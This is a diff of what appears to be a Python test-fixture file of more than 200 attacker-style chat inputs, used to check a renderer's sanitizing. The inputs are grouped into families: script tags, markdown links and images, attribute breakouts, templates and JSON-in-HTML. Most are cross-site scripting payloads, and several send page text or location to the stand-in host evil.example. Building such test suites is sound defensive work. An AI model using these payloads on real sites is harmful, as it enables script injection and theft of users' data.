@@ -1,6 +1,7 @@
-"""Texts as attackers write them into a chat: 200 of them, by what they hope for. Each that gets its way calls `ran`,
-fetches from evil.example, or leaves an element with the attribute `data-theirs`. They have 100 characters at most, as
-the shortest of all names.
+"""Texts as attackers write them into a chat: more than 200, by what they hope for.
+
+Each that gets its way calls `ran`, fetches from evil.example, or leaves an element with the attribute `data-theirs`.
+They have 100 characters at most, as the shortest of all names.
 """
 
 FAMILIES: dict[str, list[str]] = {
@@ -17,8 +18,8 @@ FAMILIES: dict[str, list[str]] = {
         "<script async defer src='//evil.example/x.js'></script>",
         "<script src='data:text/javascript,ran(1)'></script>",
         "<script nonce=x>ran(1)</script>",
-        "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"https://evil.example/\"]}]}</script>",
-        "<script type=importmap>{\"imports\":{\"a\":\"https://evil.example/\"}}</script>",
+        '<script type=speculationrules>{"prefetch":[{"urls":["https://evil.example/"]}]}</script>',
+        '<script type=importmap>{"imports":{"a":"https://evil.example/"}}</script>',
         "<script>fetch('//evil.example/'+document.body.innerText)</script>",
         "<script>new Image().src='//evil.example/'+location</script>",
         "<script>document.write('<img src=//evil.example/>')</script>",
@@ -105,21 +106,21 @@ FAMILIES: dict[str, list[str]] = {
         "[x](vbscript:ran(1))",
         "[x](//evil.example/)",
         "[x](/sign-out)",
-        "[x](https://evil.example/ \"a title\" onclick=ran(1))",
+        '[x](https://evil.example/ "a title" onclick=ran(1))',
         "[x](https://evil.example/ '\"onmouseover=ran(1) x=\"')",
         "[x][1]\n\n[1]: javascript:ran(1)",
         "[x]: data:text/html,<script>ran(1)</script>\n\n[x]",
         "<javascript:ran(1)>",
-        "<https://evil.example/\"onclick=ran(1)>",
+        '<https://evil.example/"onclick=ran(1)>',
         "![x](https://evil.example/x.png)",
         "![x](//evil.example/x.png)",
         "![x](javascript:ran(1))",
         "![x](data:image/svg+xml,<svg/onload=ran(1)>)",
-        "![x\"onerror=\"ran(1)](https://evil.example/x.png)",
+        '![x"onerror="ran(1)](https://evil.example/x.png)',
         "![<img src=x onerror=ran(1)>](https://evil.example/x.png)",
         "[![x](https://evil.example/x.png)](javascript:ran(1))",
         "```<script>ran(1)</script>\nx\n```",
-        "```\"onload=ran(1) x=\"\nx\n```",
+        '```"onload=ran(1) x="\nx\n```',
         "`<img src=x onerror=ran(1)>`",
         "# <svg onload=ran(1)>",
         "- <iframe src=javascript:ran(1)>",
@@ -158,17 +159,17 @@ FAMILIES: dict[str, list[str]] = {
         "<portal src=//evil.example/></portal>",
     ],
     "attributes that are broken out of": [
-        "\"><script>ran(1)</script>",
+        '"><script>ran(1)</script>',
         "'><script>ran(1)</script>",
         "><script>ran(1)</script>",
-        "\" onmouseover=\"ran(1)",
+        '" onmouseover="ran(1)',
         "' onmouseover='ran(1)",
-        "\" autofocus onfocus=ran(1) x=\"",
+        '" autofocus onfocus=ran(1) x="',
         "' autofocus onfocus=ran(1) x='",
         "` onmouseover=ran(1) `",
         "x onmouseover=ran(1) x",
-        "\"><img src=//evil.example/x.png>",
-        "\"/><svg/onload=ran(1)>",
+        '"><img src=//evil.example/x.png>',
+        '"/><svg/onload=ran(1)>',
         "</title><script>ran(1)</script>",
         "</textarea><script>ran(1)</script>",
         "</pre></details><script>ran(1)</script>",
@@ -176,7 +177,7 @@ FAMILIES: dict[str, list[str]] = {
         "</dd></dl></aside></main><script>ran(1)</script>",
         "--><script>ran(1)</script>",
         "]]><script>ran(1)</script>",
-        "\\\"><script>ran(1)</script>",
+        '\\"><script>ran(1)</script>',
     ],
     "templates": [
         "{{ 7 * 7 }}",
@@ -231,13 +232,13 @@ FAMILIES: dict[str, list[str]] = {
     "JSON within HTML": [
         "</script><script>ran(1)</script>",
         "</ScRiPt ><script>ran(1)</script>",
-        "\";ran(1);//",
+        '";ran(1);//',
         "'];ran(1);//",
-        "\\\";ran(1);//",
+        '\\";ran(1);//',
         "<!--<script>",
         "\\u003cscript\\u003eran(1)\\u003c/script\\u003e",
         "\\x3cscript\\x3eran(1)\\x3c/script\\x3e",
-        "{\"__proto__\": {\"innerHTML\": \"<img src=x onerror=ran(1)>\"}}",
+        '{"__proto__": {"innerHTML": "<img src=x onerror=ran(1)>"}}',
         "\u2028ran(1)\u2029",
     ],
     "what is encoded already": [
